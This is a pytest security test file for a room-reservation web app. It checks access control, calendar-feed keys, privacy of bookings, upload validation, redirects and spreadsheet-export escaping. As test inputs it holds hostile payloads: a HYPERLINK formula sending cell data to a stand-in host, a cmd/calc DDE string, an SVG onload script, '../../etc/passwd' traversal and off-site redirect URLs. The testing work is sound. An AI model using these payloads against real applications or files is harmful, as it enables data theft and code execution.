"""Rooms: whose reservation is whose (another official gets 404 and changes nothing; the
requester and the approvers get the pages), what a vendor gets (403 everywhere), the
calendar-feed keys (an unknown or ended key is 404), what others see of a reservation
("taken", never who or why), the rooms' own rules refusing a request in words, the
room photo, unknown ids and garbage parameters (never a 500), and the report downloads
(typed text never becomes a spreadsheet formula)."""

import csv
import io
import re
from datetime import date, timedelta
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lpse_web.auth.models import User
from lpse_web.auth.roles import Role
from lpse_web.extensions import db
from lpse_web.office.models import Room
from lpse_web.rooms import feeds
from tests.security.conftest import (
    TINY_PNG,
    Upload,
    encoded,
    open_room_days,
    post,
    reservation_state,
    routes,
    row_counts,
    token_of,
    url_of,
)
from tests.security.test_bad_input import FLASH, not_indonesian

ROOM_BLUEPRINTS = {"rooms", "reservations", "room_manage", "room_report", "room_admin"}
REQUESTER_STEPS = ("batal", "check-in", "selesai")
PROBLEM = re.compile(r'<p class="flash flash-error" role="alert" id="reservation-problem">(.*?)</p>', re.S)


def unfolded(ics: str) -> str:
    """An ICS body with its folded lines joined (a long SUMMARY is cut at 75 octets)."""
    return ics.replace("\r\n ", "")


def official_client(app, sample, login):
    client = app.test_client()
    login(client, sample.official)
    return client, token_of(client)


def reservation_form(sample, **changes) -> dict:
    """A request for the sample room on free_day 11.00-12.00 (valid as it stands)."""
    return {"room": str(sample.room_id), "start_date": sample.free_day, "start_time": "11:00",
            "end_time": "12:00", "purpose": "meeting", "title": "Rapat Pokja Paket Jembatan",
            "attendees": "5", "note": "", "repeat": "", "until": "", "confirm": "Ajukan reservasi",
            **changes}


def flashed(client, response) -> list[tuple[str, str]]:
    target = response.location if response.status_code in (302, 303) else response.headers["HX-Redirect"]
    return FLASH.findall(client.get(target).get_data(as_text=True))


# --- whose reservation ------------------------------------------------------------------

@pytest.mark.parametrize("role", [Role.ROOM_USER, Role.VERIFIKATOR, Role.ASSET_MANAGER], ids=str)
def test_another_official_gets_404_for_someone_elses_reservation_and_nothing_changes(
        app, sample, signed_in, role):
    client, _ = signed_in(role)
    token = token_of(client)
    for reservation_id in (sample.reservation_id, sample.arriving_id, sample.in_use_id):
        response = client.get(f"/ruang/reservasi/{reservation_id}")
        body = response.get_data(as_text=True)
        assert response.status_code == 404, reservation_id
        assert sample.title not in body and sample.official.name not in body
        state, before = reservation_state(app, reservation_id), row_counts(app)
        for step in REQUESTER_STEPS:
            for headers in ({}, {"HX-Request": "true"}):
                response = post(client, f"/ruang/reservasi/{reservation_id}/{step}", token,
                                {"kembali": "kelola"}, headers=headers)
                assert response.status_code == 404, (reservation_id, step, headers)
        assert reservation_state(app, reservation_id) == state, reservation_id
        assert row_counts(app) == before, reservation_id


def test_the_requester_may_use_every_step_of_their_own_reservation(app, sample, login):
    """The other side of the 404s: the official who reserved gets the pages and steps."""
    client, token = official_client(app, sample, login)
    for reservation_id in (sample.reservation_id, sample.arriving_id, sample.in_use_id):
        response = client.get(f"/ruang/reservasi/{reservation_id}")
        assert response.status_code == 200 and sample.title in response.get_data(as_text=True)
    steps = [(sample.arriving_id, "check-in", "checked_in", "Kehadiran dicatat"),
             (sample.in_use_id, "selesai", "completed", "Pemakaian ruang selesai"),
             (sample.reservation_id, "batal", "cancelled", "Reservasi dibatalkan.")]
    for reservation_id, step, status, message in steps:
        response = post(client, f"/ruang/reservasi/{reservation_id}/{step}", token)
        assert response.status_code == 303, (step, response.status_code)
        assert urlsplit(response.location).path == f"/ruang/reservasi/{reservation_id}"
        assert ("success", message) in [(c, m[:len(message)]) for c, m in flashed(client, response)]
        assert reservation_state(app, reservation_id)["status"] == status


def test_a_requester_cannot_decide_on_their_own_request(app, sample, login):
    client, token = official_client(app, sample, login)
    state, before = reservation_state(app, sample.reservation_id), row_counts(app)
    for url, data in ((f"/ruang/reservasi/{sample.reservation_id}/setujui", {}),
                      (f"/ruang/reservasi/{sample.reservation_id}/tolak", {"reason": "Batal sendiri"}),
                      (f"/ruang/seri/{sample.series_id}/setujui", {}),
                      (f"/ruang/seri/{sample.series_id}/tolak", {"reason": "Batal sendiri"})):
        assert post(client, url, token, data).status_code == 403, url
    assert client.get("/ruang/kelola").status_code == 403
    assert reservation_state(app, sample.reservation_id) == state and row_counts(app) == before


@pytest.mark.parametrize("step", ["setujui", "tolak"])
def test_an_approver_deciding_on_the_reservation_page_is_sent_back_to_it(app, sample, signed_in, step):
    """The reservation's own page posts its approve and reject forms without `kembali`
    (templates/rooms/detail.html): the answer is that page again, with the message."""
    client, _ = signed_in(Role.HELPDESK)
    reservation_id = sample.reservation_id
    data = {"reason": "Ruang dipakai rapat pimpinan"} if step == "tolak" else {}
    response = post(client, f"/ruang/reservasi/{reservation_id}/{step}", token_of(client), data)
    assert response.status_code == 303, response.status_code
    assert urlsplit(response.location).path == f"/ruang/reservasi/{reservation_id}"
    assert "success" in [category for category, _ in flashed(client, response)]
    expected = "approved" if step == "setujui" else "rejected"
    assert reservation_state(app, reservation_id)["status"] == expected


def test_a_vendor_gets_403_on_every_rooms_route(app, sample, signed_in):
    client, vendor = signed_in(Role.VENDOR)
    token = token_of(client)
    pairs = [(rule, method) for method in ("GET", "POST") for rule in routes(app, method)
             if rule.endpoint.split(".")[0] in ROOM_BLUEPRINTS or rule.endpoint == "catalogue.rooms"]
    assert len(pairs) >= 25
    before = row_counts(app)
    for rule, method in pairs:
        url = url_of(rule, sample.args())
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(url, headers=headers) if method == "GET" else post(
                client, url, token, {"reason": "x", "kembali": "kelola"}, headers=headers)
            assert response.status_code == 403, (method, url, headers, response.status_code)
            assert sample.title not in response.get_data(as_text=True)
    assert row_counts(app) == before
    # The feeds take no session (a calendar app has none): a key made for a vendor's
    # account opens nothing.
    with app.app_context():
        key = feeds.new_key(vendor.id)
        db.session.commit()
    for url in (f"/ruang/kalender/{key}/saya.ics", f"/ruang/kalender/{key}/ruang-{sample.room_id}.ics"):
        assert client.get(url).status_code == 404, url
        assert app.test_client().get(url).status_code == 404, url


# --- calendar feeds ----------------------------------------------------------------------

def feed_urls(key: str, room_id: int) -> tuple[str, str]:
    return f"/ruang/kalender/{key}/saya.ics", f"/ruang/kalender/{key}/ruang-{room_id}.ics"


def test_a_feed_opens_with_its_key_only(app, sample, login):
    anonymous = app.test_client()
    for url in feed_urls(sample.feed_key, sample.room_id):
        response = anonymous.get(url)
        assert response.status_code == 200 and response.mimetype == "text/calendar", url
        assert "no-store" in response.headers["Cache-Control"]
    key = sample.feed_key
    unknown = ["x", "A" * len(key), key[:-1], key + "x", key[::-1], "A" * 65, "%00", "%2e%2e",
               key.swapcase() if key.swapcase() != key else "B" * len(key)]
    for wrong in unknown:
        for url in feed_urls(wrong, sample.room_id):
            response = anonymous.get(url)
            assert response.status_code == 404, (url, response.status_code)
            assert sample.title not in response.get_data(as_text=True)
    assert anonymous.get(f"/ruang/kalender/{key}/ruang-999999.ics").status_code == 404


def test_a_new_feed_key_ends_the_old_links(app, sample, login):
    client, token = official_client(app, sample, login)
    before = row_counts(app)
    response = post(client, "/ruang/saya/tautan-kalender", token)
    assert response.status_code == 200
    new_key = re.search(r"/ruang/kalender/([^/<\s]+)/saya\.ics", response.get_data(as_text=True)).group(1)
    after = row_counts(app)
    assert after["room_feed_key"] == before["room_feed_key"]  # the one key row replaced, not another added
    assert after["audit_log"] == before["audit_log"] + 1  # and the change of credential logged (hash hidden)
    anonymous = app.test_client()
    for url in feed_urls(sample.feed_key, sample.room_id):
        assert anonymous.get(url).status_code == 404, url
    for url in feed_urls(new_key, sample.room_id):
        assert anonymous.get(url).status_code == 200, url


@pytest.mark.parametrize("change", ["deactivated", "no_longer_staff"])
def test_a_feed_key_ends_with_the_account_or_its_staff_role(app, sample, change):
    with app.app_context():
        user = db.session.get(User, sample.official.id)
        if change == "deactivated":
            user.active = False
        else:
            user.set_roles([Role.VENDOR])
        db.session.commit()
    anonymous = app.test_client()
    for url in feed_urls(sample.feed_key, sample.room_id):
        assert anonymous.get(url).status_code == 404, url


# --- what others see -----------------------------------------------------------------------

def test_others_see_the_officials_reservations_only_as_taken(app, sample, signed_in):
    other, other_user = signed_in(Role.ROOM_USER)
    secrets = (sample.title, sample.official.name, "Butuh proyektor")
    pages = (f"/ruang/?hari={sample.room_day}", f"/ruang/{sample.room_id}/minggu?minggu={sample.room_day}",
             "/ruang/saya", f"/ruang/pesan?ruang={sample.room_id}&hari={sample.room_day}")
    for url in pages:
        for headers in ({}, {"HX-Request": "true"}):
            response = other.get(url, headers=headers)
            body = response.get_data(as_text=True)
            assert response.status_code == 200, url
            assert not [s for s in secrets if s in body], (url, headers)
    assert "Terpakai" in other.get(pages[0]).get_data(as_text=True)
    # The room's feed with another official's key: "taken" only.
    with app.app_context():
        key = feeds.new_key(other_user.id)
        db.session.commit()
    mine, room = (unfolded(app.test_client().get(url).get_data(as_text=True))
                  for url in feed_urls(key, sample.room_id))
    assert "Terpakai" in room
    assert not [s for s in secrets if s in room + mine]
    # The requester's own feed, and an approver's day view, name them.
    own = app.test_client().get(feed_urls(sample.feed_key, sample.room_id)[0])
    assert sample.title in unfolded(own.get_data(as_text=True))
    approver, _ = signed_in(Role.HELPDESK)
    assert sample.title in approver.get(pages[0]).get_data(as_text=True)


# --- the rooms' own rules --------------------------------------------------------------------

def _days(app, sample) -> dict[str, str]:
    with app.app_context():
        room = db.session.get(Room, sample.room_id)
        today = date.today()
        past = next(d for d in (today - timedelta(days=n) for n in range(1, 15))
                    if open_room_days(room, d, 1)[0] == d)
        far = open_room_days(room, today + timedelta(days=200), 1)[0]
    return {"past": past.isoformat(), "far": far.isoformat(),
            "closure": (today + timedelta(days=60)).isoformat()}  # the sample's closure day


def refusals(sample, days) -> dict[str, tuple[dict, str]]:
    until = (date.fromisoformat(sample.room_day) + timedelta(days=21)).isoformat()
    return {
        "more_people_than_seats": ({"attendees": "11"}, "Jumlah orang melebihi kapasitas ruang (10 kursi)."),
        "taken": ({"start_date": sample.room_day, "start_time": "09:30", "end_time": "10:30"},
                  "Bentrok dengan reservasi lain: Ruang Contoh sudah dipesan"),
        "blackout": ({"start_date": sample.room_day, "start_time": "15:00", "end_time": "16:00"},
                     "Ruang ditutup"),
        "outside_the_rooms_hours": ({"start_time": "06:00", "end_time": "07:00"},
                                    "Di luar jam pemakaian ruang"),
        "in_the_past": ({"start_date": days["past"]}, "Terlalu mendadak"),
        "too_far_ahead": ({"start_date": days["far"]}, "Terlalu jauh ke depan"),
        "closure_day": ({"start_date": days["closure"]}, "Kantor tutup hari itu"),
        "every_date_of_a_series_taken": ({"start_date": sample.room_day, "start_time": "13:00",
                                          "end_time": "14:00", "repeat": "weekly", "until": until},
                                         "Tidak ada satu pun jadwal yang dapat dipesan."),
    }


def test_a_request_the_rooms_rules_refuse_says_why_and_writes_nothing(app, sample, signed_in):
    client, _ = signed_in(Role.ROOM_USER)  # not the sample's official, not an approver
    token = token_of(client)
    failures = []
    for name, (changes, message) in refusals(sample, _days(app, sample)).items():
        for headers in ({}, {"HX-Request": "true"}):
            before = row_counts(app)
            data = reservation_form(sample, **changes)
            response = post(client, "/ruang/pesan", token, data, headers=headers)
            body = response.get_data(as_text=True)
            problems = [p.strip() for p in PROBLEM.findall(body)]
            label = f"{name}{' (htmx)' if headers else ''}"
            if response.status_code != 422:
                failures.append(f"{label}: {response.status_code}, expected 422")
            if not any(message in p for p in problems):
                failures.append(f"{label}: no {message!r} among {problems}")
            failures += [f"{label}: not Indonesian: {p!r}" for p in problems if not_indonesian(p)]
            if sample.title in body or sample.official.name in body:
                failures.append(f"{label}: names someone else's reservation")
            if row_counts(app) != before:
                failures.append(f"{label}: the database changed")
    assert not failures, "\n".join(failures)


def test_an_approver_is_told_whose_reservation_is_in_the_way(app, sample, signed_in):
    client, _ = signed_in(Role.HELPDESK)
    before = row_counts(app)
    data = reservation_form(sample, start_date=sample.room_day, start_time="09:30", end_time="10:30")
    response = post(client, "/ruang/pesan", token_of(client), data)
    assert response.status_code == 422
    problem = PROBLEM.search(response.get_data(as_text=True)).group(1)
    assert sample.title in problem and sample.official.name in problem
    assert row_counts(app) == before


def test_checking_the_schedule_stores_nothing_and_names_nobody(app, sample, signed_in):
    client, _ = signed_in(Role.ROOM_USER)
    until = (date.fromisoformat(sample.room_day) + timedelta(days=21)).isoformat()
    data = reservation_form(sample, start_date=sample.room_day, start_time="13:00", end_time="14:00",
                            repeat="weekly", until=until, preview="Periksa jadwal")
    del data["confirm"]  # the other button
    before = row_counts(app)
    response = post(client, "/ruang/pesan", token_of(client), data)
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and 'id="reservation-plan"' in body
    assert "Bentrok dengan reservasi lain" in body and sample.title not in body
    assert row_counts(app) == before


def test_the_same_request_sent_twice_is_stored_once(app, sample, signed_in):
    """A double click: the second is refused in words (the room is taken), not a 409 or 500."""
    client, _ = signed_in(Role.ROOM_USER)
    token = token_of(client)
    before = row_counts(app)["room_reservation"]
    assert post(client, "/ruang/pesan", token, reservation_form(sample)).status_code == 303
    response = post(client, "/ruang/pesan", token, reservation_form(sample))
    assert response.status_code == 422, response.status_code
    assert "Bentrok dengan reservasi lain" in response.get_data(as_text=True)
    assert row_counts(app)["room_reservation"] == before + 1


# --- the room photo ------------------------------------------------------------------------

ROOM_EDIT = {"name": "Ruang Contoh", "kind": "meeting", "seats": "10", "computers": "2",
             "equipment": "Proyektor", "active": "y", "opens": "", "closes": "", "needs_approval": "y",
             "min_notice_minutes": "60", "max_advance_days": "90", "grace_minutes": "15"}
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def room_photo(app, room_id):
    with app.app_context():
        room = db.session.get(Room, room_id)
        return room.photo, room.photo_type


def test_a_refused_photo_changes_nothing_and_the_stored_one_is_served_as_an_image(app, sample, signed_in):
    client, _ = signed_in(Role.ADMIN)
    token = token_of(client)
    url = f"/admin/ruang/{sample.room_id}"
    not_image, too_big = "Foto harus berupa berkas JPEG atau PNG.", "Foto paling besar 2 MB."
    over_limit = "Berkas terlalu besar"
    refused = [(Upload(b"Ini hanya teks.\n", "foto.png", "image/png"), 422, not_image),
               (Upload(b"<svg onload=alert(1)>", "foto.jpg", "image/jpeg"), 422, not_image),
               (Upload(TINY_PNG + bytes(2 * 1024 * 1024), "foto.png", "image/png"), 422, too_big),
               # Over MAX_CONTENT_LENGTH (4 MB): refused before the form is read.
               (Upload(TINY_PNG + bytes(5 * 1024 * 1024), "foto.png", "image/png"), 413, over_limit)]
    for upload, status, message in refused:
        before = row_counts(app)
        body, headers = encoded({**ROOM_EDIT, "photo": upload})
        response = post(client, url, token, body, headers=headers)
        assert response.status_code == status, (upload.filename, response.status_code)
        assert message in response.get_data(as_text=True)
        assert room_photo(app, sample.room_id) == (TINY_PNG, "image/png")
        assert row_counts(app) == before
    response = client.get(f"/ruang/{sample.room_id}/foto")
    assert (response.status_code, response.mimetype, response.data) == (200, "image/png", TINY_PNG)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    # A JPEG named .png and sent as image/png: its type comes from its bytes.
    body, headers = encoded({**ROOM_EDIT, "photo": Upload(JPEG, "foto.png", "image/png")})
    assert post(client, url, token, body, headers=headers).status_code == 303
    response = client.get(f"/ruang/{sample.room_id}/foto")
    assert (response.mimetype, response.data) == ("image/jpeg", JPEG)


# --- unknown ids and garbage ------------------------------------------------------------------

def test_unknown_ids_are_404_and_change_nothing(app, sample, signed_in):
    client, _ = signed_in(Role.ADMIN)  # an approver too: nothing else stands in the way
    token = token_of(client)
    with app.app_context():
        second = db.session.scalar(select(Room).where(Room.name == "Ruang Pelatihan Contoh"))
        second_id = second.id
        inactive = Room(name="Ruang Tidak Aktif", kind="meeting", seats=5, active=False)
        db.session.add(inactive)
        db.session.commit()
        inactive_id = inactive.id
    gets = ["/ruang/reservasi/999999", "/ruang/999999/minggu", "/ruang/999999/foto",
            f"/ruang/{second_id}/foto",  # a room without a photo
            f"/ruang/{inactive_id}/minggu", "/admin/ruang/999999/penutupan"]
    for url in gets:
        assert client.get(url).status_code == 404, url
    blackout = {"start_date": sample.free_day, "start_time": "08:00", "end_date": sample.free_day,
                "end_time": "12:00", "reason": "Pemeliharaan"}
    posts = [*((f"/ruang/reservasi/999999/{step}", {}) for step in (*REQUESTER_STEPS, "setujui")),
             ("/ruang/reservasi/999999/tolak", {"reason": "Tidak ada"}),
             ("/ruang/reservasi/999999/tolak", {}),
             ("/ruang/seri/999999/setujui", {}), ("/ruang/seri/999999/tolak", {"reason": "Tidak ada"}),
             ("/ruang/seri/999999/tolak", {}), ("/admin/ruang/999999/penutupan", blackout),
             ("/admin/ruang/penutupan/999999/hapus", {})]
    before = row_counts(app)
    for url, data in posts:
        assert post(client, url, token, data).status_code == 404, (url, data)
    assert row_counts(app) == before


def test_garbage_query_parameters_of_the_rooms_pages_are_ignored(app, sample, signed_in):
    client, _ = signed_in(Role.MANAGER)
    room = sample.room_id
    urls = ["/ruang/?hari=9999-12-31", "/ruang/?hari=0001-01-01", "/ruang/?hari=besok", "/ruang/?hari=%00",
            "/ruang/?hari=2100-12-31", f"/ruang/{room}/minggu?minggu=2000-01-01",
            f"/ruang/{room}/minggu?minggu=9999-99-99", f"/ruang/{room}/minggu?minggu=%3Cscript%3E",
            "/ruang/pesan?ruang=abc&hari=9999-12-31&mulai=%3Cx%3E&selesai=99:99",
            "/ruang/pesan?ruang=999999&hari=0001-01-01&mulai=09:00&selesai=08:00",
            "/ruang/pesan?hari=" + "9" * 5000,
            "/ruang/laporan/?periode=%3Cx%3E&tanggal=9999-12-31",
            "/ruang/laporan/?periode=week&tanggal=2100-12-31",
            "/ruang/laporan/?periode=month&tanggal=2000-01-01", "/ruang/laporan/?tanggal=%00",
            "/ruang/laporan/unduh.csv?tabel=../../etc/passwd&tanggal=abc",
            "/ruang/laporan/unduh.xlsx?periode=day&tanggal=9999-12-31"]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        body = response.get_data(as_text=True) if response.mimetype == "text/html" else ""
        assert "<x>" not in body and "<script>" not in body, url
    disposition = client.get("/ruang/laporan/unduh.csv?tabel=../../etc/passwd").headers["Content-Disposition"]
    assert "/" not in disposition.split("filename=")[1], disposition


@pytest.mark.parametrize("back", ["https://jahat.example/", "//jahat.example", "²", "9" * 5000, "-1"],
                         ids=["absolute", "scheme_relative", "superscript_two", "5000_digits", "negative"])
def test_the_way_back_after_deciding_a_series_stays_on_the_site(app, sample, signed_in, back):
    """`kembali` (a reservation id from its page, "kelola" from the desk) never sends
    elsewhere and is never a server error."""
    client, _ = signed_in(Role.HELPDESK)
    response = post(client, f"/ruang/seri/{sample.series_id}/setujui", token_of(client), {"kembali": back})
    assert response.status_code == 303, response.status_code
    target = urlsplit(response.location)
    assert target.netloc in ("", "lpse.test") and target.path.startswith("/ruang/"), response.location


# --- report downloads -------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")'
FORMULA_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_typed_text_never_becomes_a_formula_in_the_report_downloads(app, sample, signed_in, login):
    """CSV/formula injection (OWASP): an official's title and an approver's reason reach
    the manager's spreadsheet; a cell starting with = + - @ must stay text."""
    official, token = official_client(app, sample, login)
    response = post(official, "/ruang/pesan", token, reservation_form(sample, title=FORMULA_TITLE))
    assert response.status_code == 303, response.status_code
    reservation_id = int(urlsplit(response.location).path.rsplit("/", 1)[1])
    approver, _ = signed_in(Role.HELPDESK)
    response = post(approver, f"/ruang/reservasi/{reservation_id}/tolak", token_of(approver),
                    {"reason": FORMULA_REASON, "kembali": "kelola"})
    assert response.status_code == 303
    manager, _ = signed_in(Role.MANAGER)
    query = f"periode=month&tanggal={sample.free_day}"
    body = manager.get(f"/ruang/laporan/unduh.csv?{query}&tabel=penolakan").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    typed = [c for c in cells if "HYPERLINK" in c or "SUM(1+1)" in c]
    assert len(typed) == 2, cells
    assert not [c for c in typed if c.startswith(FORMULA_START)], typed
    workbook = load_workbook(io.BytesIO(manager.get(f"/ruang/laporan/unduh.xlsx?{query}").data))
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in workbook for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert not formulas, formulas
